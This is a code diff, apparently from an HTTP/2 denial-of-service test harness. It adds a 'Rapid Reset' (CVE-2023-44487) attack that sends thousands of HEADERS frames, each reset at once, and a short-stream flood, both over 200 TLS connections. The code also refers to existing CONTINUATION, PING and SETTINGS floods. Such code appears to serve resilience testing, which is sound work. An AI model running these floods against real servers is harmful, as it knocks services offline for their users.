@@ -98,6 +98,12 @@ const continuations = frames(frame(1, 0, 1), ...Array.from({ length: 60 }, () =>
 const pings = frames(...Array.from({ length: 5000 }, () => frame(6, 0, 0, Buffer.alloc(8))));
 const settings = frames(...Array.from({ length: 2000 }, () => frame(4, 0, 0)));
 
+/** The head of `GET /` as one frame without a body. */
+const shortHead = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, 9]), Buffer.from("localhost")]);
+const shortHeads = Array.from({ length: 3000 }, (_, index) => frame(1, 5, 2 * index + 1, shortHead));
+/** CVE-2023-44487: each stream is reset at once, so none counts as open. */
+const resetStreams = shortHeads.flatMap((head, index) => [head, frame(3, 0, 2 * index + 1, Buffer.from([0, 0, 0, 8]))]);
+
 function streams(session: ClientHttp2Session, headers: Readonly<Record<string, string>>, body?: Uint8Array): void {
   for (let count = 0; count < 100; count++) {
     const stream = session.request(headers, { endStream: body === undefined });
@@ -150,6 +156,8 @@ export const attacks: Readonly<Record<string, Attack>> = {
     connections: 100,
     open: (to) => to.http2((session) => streams(session, { ":path": "/version", ...longHeaders })),
   },
+  "short streams over HTTP/2": { connections: 200, open: (to) => to.tls(frames(...shortHeads), overHttp2) },
+  "streams that are reset": { connections: 200, open: (to) => to.tls(frames(...resetStreams), overHttp2) },
   "CONTINUATION frames": { connections: 200, open: (to) => to.tls(continuations, overHttp2) },
   "PING frames": { connections: 200, open: (to) => to.tls(pings, overHttp2) },
   "SETTINGS frames": { connections: 200, open: (to) => to.tls(settings, overHttp2) },
